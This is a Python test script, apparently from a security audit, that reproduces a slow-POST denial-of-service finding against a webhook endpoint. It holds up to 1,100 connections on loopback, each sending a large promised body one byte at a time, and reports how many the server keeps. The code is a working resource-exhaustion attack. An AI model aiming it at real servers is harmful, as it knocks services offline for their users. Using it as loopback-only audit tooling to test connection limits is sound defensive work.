#!/usr/bin/env python3
"""Slow POST clients, as the audit ran them (issue 18, finding 1): each connection sends its headers, promises a
body, then sends one byte of it every few seconds, for as long as the server keeps the connection.

    slow-clients.py --port P [--tls] [--count 1100] [--sources 127.0.0.2,...] [--seconds 30] [--status FILE]

Connections are spread over the source addresses (all on loopback), as an attacker spreads them over a few
machines. While it runs, FILE holds a JSON line: how many connections were opened, how many the server still
holds, and how many it ended (answered or closed). Loopback only: the target is always 127.0.0.1.
"""

import argparse
import asyncio
import json
import os
import resource
import ssl
import time


async def client(index, args, context, sources, stats, deadline):
    source = sources[index % len(sources)]
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", args.port, ssl=context, local_addr=(source, 0)), timeout=20)
    except (OSError, asyncio.TimeoutError, ssl.SSLError):
        stats["failed"] += 1
        return
    stats["opened"] += 1
    stats["held"] += 1
    try:
        writer.write(
            ("POST /webhooks/whatsapp/ HTTP/1.1\r\nHost: order.example.com\r\nContent-Type: application/json\r\n"
             "Content-Length: 100000\r\n\r\n").encode())
        await writer.drain()
        while time.monotonic() < deadline:
            # Whatever comes back (a 503 from the limit, a 408) or a close means the server let go of it.
            try:
                data = await asyncio.wait_for(reader.read(1024), timeout=args.interval)
                if data or reader.at_eof():
                    stats["ended"] += 1
                    return
            except asyncio.TimeoutError:
                pass
            writer.write(b"{")
            await writer.drain()
        stats["lasted"] += 1
    except (OSError, ssl.SSLError, ConnectionError):
        stats["ended"] += 1
    finally:
        stats["held"] -= 1
        writer.close()


async def report(args, stats, deadline):
    while time.monotonic() < deadline + 1:
        if args.status:
            with open(args.status + ".tmp", "w") as handle:
                handle.write(json.dumps(stats) + "\n")
            os.replace(args.status + ".tmp", args.status)
        await asyncio.sleep(0.25)


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--count", type=int, default=1100)
    parser.add_argument("--sources", default=",".join(f"127.0.0.{n}" for n in range(2, 12)))
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--interval", type=float, default=4)
    parser.add_argument("--status")
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, args.count + 256)), hard))
    sources = args.sources.split(",")
    stats = {"opened": 0, "held": 0, "ended": 0, "failed": 0, "lasted": 0}
    context = None
    if args.tls:
        # One context for all: building one loads the system's CA list, which would make opening the slow part.
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    deadline = time.monotonic() + args.seconds
    reporter = asyncio.create_task(report(args, stats, deadline))
    # Opened in waves, so the TLS handshakes do not all queue at once.
    tasks = []
    for index in range(args.count):
        tasks.append(asyncio.create_task(client(index, args, context, sources, stats, deadline)))
        if index % 50 == 49:
            await asyncio.sleep(0.05)
    await asyncio.gather(*tasks)
    stats["done"] = True
    await asyncio.sleep(0.3)
    reporter.cancel()
    if args.status:
        with open(args.status, "w") as handle:
            handle.write(json.dumps(stats) + "\n")
    print(json.dumps(stats))


asyncio.run(main())
